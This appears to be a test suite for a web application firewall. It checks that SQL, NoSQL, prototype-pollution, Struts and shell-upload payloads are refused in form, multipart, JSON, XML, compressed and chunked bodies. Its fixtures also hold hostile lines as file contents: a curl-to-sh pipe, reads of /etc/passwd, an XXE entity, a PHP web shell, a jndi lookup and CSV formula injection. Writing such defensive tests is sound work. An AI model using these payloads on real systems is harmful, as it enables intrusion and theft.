"""Rules over content: an attack is refused wherever it stands in a request, however it is packed and cut; what people
upload is not judged as if it were an argument."""

import gzip
import io
import json
import zipfile
import zlib

from harness import test
from harness.content import FORM, JSON, MULTI, XML, chunked, file_part, files, part, parts, post

QUOTE = b"x' or 'a'='a"
TEXT = b"text/plain"
ZIPPED, DEFLATED = b"Content-Encoding: gzip", b"Content-Encoding: deflate"


def argument(name, value):
    return part(b'form-data; name="%s"' % name, value)


# what is sent: type, content, further fields; the rule that refuses it
ATTACKS = {
    "a value of a form": (FORM, b"a=1&name=x%27+or+%27a%27%3D%27a&b=2", (), "sql.tautology"),
    "a value encoded twice": (FORM, b"name=x%2527%2520or%25201%253d1", (), "sql.tautology"),
    "a name of a form": (FORM, b"user[$ne]=1", (), "nosql.operator-at-login"),
    "the last of many values": (FORM, b"a=1&" * 3000 + b"b=" + QUOTE.replace(b" ", b"+"), (), "sql.tautology"),
    "a value among parts": (MULTI, parts(argument(b"a", b"1"), argument(b"q", QUOTE)), (), "sql.tautology"),
    "a name of a part": (MULTI, parts(argument(b"class.module.classLoader.x", b"1")), (), "java.class-loader"),
    "a part behind a file": (MULTI, parts(file_part(b"a.png", b"image/png", bytes(range(256)) * 40), argument(b"q", QUOTE)), (), "sql.tautology"),
    "the name of a file": (MULTI, files((b"shell.pHp", b"image/png", b"x")), (), "shell.uploaded"),
    "the other name of a file": (MULTI, parts(part(b"form-data; name=f; filename*=utf-8''shell%2Ephp", b"x")), (), "shell.uploaded"),
    "the type of a file": (MULTI, files((b"a.png", b"application/x-httpd-php", b"x")), (), "shell.uploaded-type"),
    "the type of a file, for Struts": (MULTI, files((b"a.png", b"image/%{(#_memberAccess)}", b"x")), (), "java.expression"),
    "a JSON part": (MULTI, parts(part(b'form-data; name="j"', json.dumps({"a": [QUOTE.decode()]}).encode(), b"Content-Type: application/json")), (), "sql.tautology"),
    "a value in JSON": (JSON, b'{"a":1,"q":{"items":[{"name":"' + QUOTE + b'"}]}}', (), "sql.tautology"),
    "escapes of JSON": (JSON, b'["\\u0078\\u0027 or \\u0027a\\u0027=\\u0027a"]', (), "sql.tautology"),
    "a name in JSON": (JSON, b'{"a":{"b":[1,2,{"__proto__":{"admin":true}}]}}', (), "node.prototype"),
    "a name behind names": (JSON, json.dumps({"x" * 300: {"y" * 300: {"a": 1, "constructor": {"b": 1, "prototype": {"c": 1}}}}}).encode(), (), "node.prototype"),
    "text in XML": (XML, b"<a><b>1</b><b>x&#39; or 'a'=<![CDATA['a]]></b></a>", (), "sql.tautology"),
    "an attribute in XML": (XML, b"<a><b c='1' d=\"x' or 'a'='a\"/></a>", (), "sql.tautology"),
    "a value among parts that are no form's": (b"multipart/mixed; boundary=B", parts(argument(b"q", QUOTE)), (), "sql.tautology"),
    "a part named by its Content-ID": (b"multipart/related; boundary=B", b"--B\r\nContent-ID: q\r\n\r\n" + QUOTE + b"\r\n--B--\r\n", (), "sql.tautology"),
    "JSON by another name": (b"application/x-json", json.dumps({"q": QUOTE.decode()}).encode(), (), "sql.tautology"),
    "JSON-RPC": (b"application/json-rpc", json.dumps({"q": QUOTE.decode()}).encode(), (), "sql.tautology"),
    "XML by another name": (b"application/x-xml", b"<a>x&#39; or 'a'='a</a>", (), "sql.tautology"),
    "gzip": (FORM, gzip.compress(b"q=" + QUOTE), (ZIPPED,), "sql.tautology"),
    "deflate": (JSON, zlib.compress(json.dumps({"q": QUOTE.decode()}).encode()), (DEFLATED,), "sql.tautology"),
    "gzip twice": (JSON, gzip.compress(gzip.compress(json.dumps({"q": QUOTE.decode()}).encode())), (b"Content-Encoding: gzip, gzip",), "sql.tautology"),
}


@test(each=ATTACKS)
def an_attack_in_content_is_refused_and_only_noted_where_the_site_watches(t, row):
    kind, content, fields, rule = row
    _, line = t.refused(t.server(), post(kind, content, *fields), "rule")
    t.equal(line.rule, rule, "rule")
    watching = t.server({"site": {"shield": {"mode": "monitor"}}})
    mark = watching.mark()
    t.equal(t.answered(watching, post(kind, content, *fields)).body, content, "the content that the origin got")
    line = watching.next_line(mark)
    t.equal((line.rule, line.enforced, line.status), (rule, False, 200), "the log")


@test(each={name: row for name, row in ATTACKS.items() if len(row[1]) < 800})
def an_attack_in_pieces_is_the_same(t, row):
    """Cut into writes of one byte, and into chunks."""
    kind, content, fields, rule = row
    data = post(kind, content, *fields)
    head = len(data) - len(content)
    _, line = t.refused(t.server(), [data[:head], *[data[i:i + 1] for i in range(head, len(data))]], "rule")
    t.equal(line.rule, rule, "rule")
    pieces = [content[i:i + 3] for i in range(0, len(content), 3)]
    data = chunked(kind, *pieces).replace(b"\r\n\r\n", b"".join(b"\r\n" + field for field in fields) + b"\r\n\r\n", 1)
    _, line = t.refused(t.server(), data, "rule")
    t.equal(line.rule, rule, "rule")


@test
def a_pause_in_the_middle_of_an_attack_hides_nothing(t):
    server = t.server({"timeouts": {"collect": "50 ms"}})
    data = post(FORM, b"q=x'+or+'a'='a")
    _, line = t.refused(server, [data[:-8], 0.3, data[-8:-4], 0.3, data[-4:]], "rule")
    t.equal(line.rule, "sql.tautology", "rule")


RULES = {"rule_files": ["policy.d"], "rules": [
    {"id": "of.name", "where": "form:voucher", "pattern": "^[^0-9]", "message": "x"},
    {"id": "of.member", "where": "json:order.items[].sku", "contains": "evil", "message": "x", "status": 404},
    {"id": "of.attribute", "where": "xml:order/item/@sku", "contains": "evil", "message": "x"},
    {"id": "of.file", "where": "file", "contains": "EICAR-STANDARD", "message": "x"},
    {"id": "of.content", "where": "content", "contains": "EICAR-STANDARD", "message": "x"},
    {"id": "of.both", "where": "path", "equals": "/both", "also": [{"where": "form", "contains": "marker"}], "message": "x"}]}


@test
def rules_of_names_see_the_right_values(t):
    """However many others there are beside them."""
    server = t.server(RULES)
    others = b"&".join(b"%s=letters" % (b"n" * (i % 40 + 1)) for i in range(300))
    for content in (b"voucher=abc&" + others, others + b"&voucher=abc&" + others, others + b"&voucher=abc"):
        _, line = t.refused(server, post(FORM, content), "rule")
        t.equal((line.rule, line.name), ("of.name", "voucher"), "rule and name")
    t.answered(server, post(FORM, others + b"&voucher=123&" + others))
    order = {"note": "evil", "order": {"name": "evil", "items": [{"sku": "a", "n": "evil"}] * 200}}
    t.answered(server, post(JSON, json.dumps(order).encode()))
    order["order"]["items"].append({"n": 1, "sku": "is evil", "m": 2})
    client = t.client(server).send(post(JSON, json.dumps(order).encode()))
    t.equal(client.read_response().status, 404, "the rule's own status")
    t.answered(server, post(XML, b"<order sku='evil'><item n='evil'>evil</item></order>"))
    _, line = t.refused(server, post(XML, b"<order><item/><item sku='evil' n='1'/></order>"), "rule")
    t.equal((line.rule, line.name), ("of.attribute", "order/item/@sku"), "rule and name")
    t.answered(server, post(FORM, b"a=marker"))
    _, line = t.refused(server, post(FORM, b"a=marker", target=b"/both"), "rule")
    t.equal(line.rule, "of.both", "rule")


@test
def signs_in_a_form_add_up_with_those_of_the_query(t):
    twice = b"a=%2541"
    t.answered(t.server(), post(FORM, twice))
    server = t.server({"site": {"shield": {"query_findings": {"escape_double": "score"}}}})
    t.answered(server, post(FORM, twice + b"&" + twice))
    t.answered(server, post(FORM, b"a=1", target=b"/?" + twice))
    _, line = t.refused(server, post(FORM, twice, target=b"/?" + twice), "score")
    t.equal((line.limit, line.value), (4, 6), "limit and value")
    _, line = t.refused(server, post(FORM, twice + b"&q=version()"), "score")
    t.equal(line.rule, "sql.function-of-schema", "the heaviest rule")
    t.refused(t.server({"site": {"shield": {"profile": "strict"}}}), post(FORM, twice), "score")
    without = t.server({"rules": [], "site": {"shield": {"limits": {"score": 2}, "query_findings": {"escape_double": "score"}}}})
    t.refused(without, post(FORM, twice), "score")


def cut_off(connection, request):
    while connection.more(5):
        pass
    return False


def never_whole(t, server, data, reason, secret, rule=None):
    """The client gets the refusal; the origin's connection ends before it has had all, and `secret` at no time."""
    mark, count = server.mark(), len(server.origin.requests)
    client = t.client(server)
    try:
        client.send(data)
    except OSError:
        pass
    t.equal(client.read_response().status, 403 if rule else 413, "status")
    line = server.next_line(mark)
    t.reason(line, reason)
    t.equal(line.rule, rule or "", "rule")
    t.check(len(server.origin.requests) > count, "it streams")
    for request in server.origin.requests[count:]:
        t.eventually(lambda request=request: request.connection.ended, "the origin's connection ends")
        got = bytes(request.connection.received).rpartition(request.head)[2]
        t.check(secret not in got and not got.endswith((b"0\r\n\r\n", b"--B--\r\n")), f"it looks whole: …{got[-60:]!r}")


STREAMS = {"rules": RULES["rules"], "rule_files": ["policy.d"], "site": {"shield": {"bodies": {"max": "64 KiB"}}}}


@test
def an_attack_at_the_end_of_a_large_upload_never_gets_there(t):
    """What is above bodies.max streams: the origin has the beginning by then, and never the end."""
    server = t.server(STREAMS, scripts={"/cut": cut_off})
    large = file_part(b"a.bin", b"application/octet-stream", b"x\r\n-" * 100_000)
    body = parts(large, argument(b"q", QUOTE))
    cut = [body[i:i + 30_000] for i in range(0, len(body), 30_000)]
    never_whole(t, server, post(MULTI, body, target=b"/cut"), "rule", QUOTE, "sql.tautology")
    never_whole(t, server, chunked(MULTI, *cut).replace(b"POST / ", b"POST /cut "), "rule", QUOTE, "sql.tautology")
    t.answered(server, post(MULTI, parts(large, argument(b"q", b"ordinary"))))
    refusing = t.server({"site": {"shield": {"bodies": {"max": "64 KiB", "larger": "refuse"}}}})
    t.refused(refusing, post(MULTI, body), "body-too-large")


@test
def what_is_held_is_refused_before_the_origin_gets_a_byte(t):
    server = t.server()
    for kind, content in ((FORM, b"a=" + b"x" * 500_000 + b"&q=" + QUOTE), (JSON, json.dumps(["x" * 500_000, QUOTE.decode()]).encode()),
                          (MULTI, parts(file_part(b"a.bin", b"application/octet-stream", b"x\r\n-" * 100_000), argument(b"q", QUOTE))),
                          (XML, b"<a>" + b"<b>text</b>" * 4000 + b"<b>" + QUOTE + b"</b></a>")):
        _, line = t.refused(server, post(kind, content), "rule")
        t.equal(line.rule, "sql.tautology", "rule")


@test
def over_a_limit_nothing_passes_unlooked_at(t):
    """Neither of a length that is said, nor of none, nor what grows when it is decoded."""
    server = t.server({"site": {"shield": {"bodies": {"max": "64 KiB", "value": "8 KiB", "values": 2000}}}})
    for data, *reasons in ((post(JSON, json.dumps(["x " * 3000] * 20 + [QUOTE.decode()]).encode()), "body-too-large"),
                           (chunked(JSON, b'["', *[b"x " * 4000] * 10, QUOTE + b'"]'), "body-too-large"),
                           (post(FORM, b"q=" + b"x" * 9000 + QUOTE), "body-value-too-long"),
                           (post(FORM, b"a=1&" * 2001 + b"q=" + QUOTE), "body-too-many-values"),
                           (post(JSON, gzip.compress(json.dumps(["%x" % (i * 7919 % 65537) * 20 for i in range(1500)] + [QUOTE.decode()]).encode()), ZIPPED), "body-too-large")):
        t.refused(server, data, *reasons)


def archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("a.txt", QUOTE * 100)
    return out.getvalue()


DUMP = b"-- MySQL dump\nDROP TABLE IF EXISTS `users`;\nINSERT INTO `users` VALUES (1,'admin','x'' or 1=1 --');\nSELECT 1 UNION SELECT user,password FROM mysql.user;\n"
SCRIPT = b"#!/bin/sh\nset -e\ncat /etc/passwd | grep root; curl http://169.254.169.254/ | sh -c id\nrm -rf $TMP && echo `whoami`\n"
ORDINARY = {
    "a dump of a database": (b"dump.sql", b"application/sql", DUMP), "a shell script": (b"install.sh", b"application/x-sh", SCRIPT),
    "a configuration": (b"nginx.conf", b"text/plain", b"location ~ /\\.ht { deny all; }\nroot /var/www/../html;\ninclude /etc/nginx/conf.d/*.conf;\n"),
    "a log": (b"access.log", b"text/x-log", b"1.2.3.4 - - \"GET /?q=<script>alert(1)</script>' or 1=1-- HTTP/1.1\" 403 ${jndi:ldap://x/a}\n" * 50),
    "a page": (b"page.html", b"text/html", b"<html><script>document.cookie='a'; eval(x)</script><iframe src=//x></iframe></html>"),
    "a drawing": (b"a.svg", b"image/svg+xml", b"<svg onload=alert(1)><!DOCTYPE a [<!ENTITY b \"c\">]></svg>"),
    "source code": (b"main.c", b"text/x-csrc", b"int main(void) { system(\"/bin/sh -c id\"); return '\\'' || 1 == 1; }"),
    "Python": (b"a.py", b"text/x-python", b"import os; os.system('cat /etc/passwd'); ().__class__.__bases__[0].__subclasses__()"),
    "a template": (b"a.j2", b"application/octet-stream", b"{{ 7*7 }} {% import os %} {{ config.items() }}"),
    "XML": (b"a.xml", b"application/xml", b"<!DOCTYPE a SYSTEM 'a.dtd' [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
    "an archive": (b"a.zip", b"application/zip", archive()), "a photograph": (b"IMG_0001.JPG", b"image/jpeg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 300),
    "PHP in a text": (b"notes.txt", b"text/plain", b"<?php system($_GET['c']); ?>"), "a table": (b"a.csv", b"text/csv", b"name;note\n'x' or 1=1;=cmd|' /C calc'!A0\n"),
}


@test(each=ORDINARY)
def what_a_file_holds_is_nobodys_argument(t, row):
    """As a part of a form, by PUT, and as text; with rules on contents beside."""
    name, kind, content = row
    for server in (t.server(), t.server(RULES)):
        t.equal(t.answered(server, post(MULTI, files(row))).body, files(row), "the content that the origin got")
        put = post(kind if kind != b"application/xml" else b"application/octet-stream", content, target=b"/files/" + name).replace(b"POST", b"PUT", 1)
        t.equal(t.answered(server, put).body, content, "the content that the origin got")


MARK = b"X5O-EICAR-STANDARD-FILE"


@test
def a_rule_on_files_finds_what_it_looks_for_wherever_it_stands(t):
    server = t.server(STREAMS, scripts={"/cut": cut_off})
    t.answered(server, post(MULTI, files((b"a", TEXT, b"x" * 300_000))))
    t.answered(server, post(MULTI, parts(argument(b"a", MARK))))
    for before in (0, 1, 4090, 16_380, 32_760, 36_850, 60_000):
        content = files((b"a.txt", TEXT, b"y"), (b"b.txt", TEXT, b"x" * before + MARK + b"x"))
        _, line = t.refused(server, post(MULTI, content), "rule")
        t.equal(line.rule, "of.file", f"rule, {before} bytes before")
    large = files((b"a.bin", TEXT, b"x" * 300_000 + MARK))
    never_whole(t, server, post(MULTI, large, target=b"/cut"), "rule", b"--B--", "of.file")
    split = files((b"a.txt", TEXT, MARK[:9]), (b"b.txt", TEXT, MARK[9:]))
    t.answered(server, post(MULTI, split))


CROWD = {"rules": [*({"id": f"watched.{i}", "where": ["argument", "form"], "contains": "crowd", "mode": "monitor", "message": "x"}
                     for i in range(20)),
                   *({"id": f"scored.{i}", "where": ["argument", "form"], "contains": "weigh", "score": 1, "message": "x"} for i in range(20)),
                   {"id": "of.evil", "where": ["argument", "form"], "contains": "evil", "message": "x"}],
         "site": {"shield": {"limits": {"score": 100}}}}


@test
def matches_of_rules_that_refuse_nothing_hide_none_of_one_that_does(t):
    """However many there are, and wherever they stand."""
    server = t.server(CROWD)
    for crowd in (b"crowd", b"weigh", b"crowd+weigh"):
        t.answered(server, post(FORM, b"a=" + crowd))
        for content in (b"a=%s&b=evil" % crowd, b"b=evil&a=" + crowd, b"b=evil+" + crowd):
            _, line = t.refused(server, post(FORM, content), "rule")
            t.equal(line.rule, "of.evil", f"rule, {content}")
        _, line = t.refused(server, post(FORM, b"b=evil", target=b"/?a=" + crowd), "rule")
        t.equal(line.rule, "of.evil", "rule, the crowd in the query")


@test
def a_rule_on_content_makes_content_of_any_kind_be_looked_into(t):
    server = t.server(STREAMS, scripts={"/cut": cut_off})
    kinds = (TEXT, None, b"application/octet-stream", b"image/png", b"text/x-odd; charset=utf-8")
    for kind in kinds:
        t.answered(server, post(kind, b"x" * 100_000))
        _, line = t.refused(server, post(kind, b"x" * 40_000 + MARK), "rule")
        t.equal(line.rule, "of.content", f"rule, {kind}")
        data = post(kind, MARK)
        t.refused(server, [data[:-len(MARK)], *[data[i:i + 1] for i in range(len(data) - len(MARK), len(data))]], "rule")
    t.refused(server, post(TEXT, gzip.compress(b"x" * 50 + MARK), ZIPPED), "rule")
    t.refused(server, chunked(TEXT, MARK[:5], MARK[5:]), "rule")
    t.refused(server, post(TEXT, b"x", b"Content-Encoding: odd"), "body-coding")
    never_whole(t, server, post(TEXT, b"x" * 300_000 + MARK, target=b"/cut"), "rule", MARK[-8:], "of.content")
    never_whole(t, server, chunked(TEXT, *[b"x" * 30_000] * 10, MARK).replace(b"POST / ", b"POST /cut "), "rule", MARK, "of.content")
    t.answered(server, post(JSON, json.dumps([MARK.decode()]).encode()))
    watching = t.server({**RULES, "site": {"shield": {"mode": "monitor"}}})
    mark = watching.mark()
    t.equal(t.answered(watching, post(TEXT, MARK)).body, MARK, "the content that the origin got")
    line = watching.next_line(mark)
    t.equal((line.rule, line.enforced), ("of.content", False), "the log")


@test
def content_for_rules_is_bounded_too(t):
    server = t.server({**STREAMS, "site": {"shield": {"bodies": {"max": "64 KiB"}, "limits": {"body": "200 KiB"}}}}, scripts={"/cut": cut_off})
    t.answered(server, post(TEXT, b"x" * 150_000))
    t.refused(server, post(TEXT, b"x" * 250_000), "content-too-large")
    never_whole(t, server, chunked(TEXT, *[b"x" * 30_000] * 10).replace(b"POST / ", b"POST /cut "), "content-too-large", b"0\r\n\r\n")
    refusing = t.server({**STREAMS, "site": {"shield": {"bodies": {"max": "64 KiB", "larger": "refuse"}}}})
    t.answered(refusing, post(TEXT, b"x" * 60_000))
    t.refused(refusing, post(TEXT, b"x" * 70_000), "body-too-large")
    t.refused(refusing, chunked(TEXT, *[b"x" * 10_000] * 7), "body-too-large")
    t.answered(t.server({**STREAMS, "site": {"shield": {"bodies": {"skip_types": ["text/*"]}}}}), post(TEXT, MARK))


@test
def a_path_that_no_rule_is_asked_about_is_that_for_content_too(t):
    server = t.server({"site": {"shield": {"allow": {"urls": ["/editor"]}}}})
    t.answered(server, post(FORM, b"q=" + QUOTE, target=b"/editor"))
    t.refused(server, post(FORM, b"q=" + QUOTE, target=b"/editors"), "rule")
    quiet = t.server({"site": {"shield": {"rules": [{"rules": ["sql.*"], "mode": "off"}]}}})
    t.answered(quiet, post(FORM, b"q=" + QUOTE))
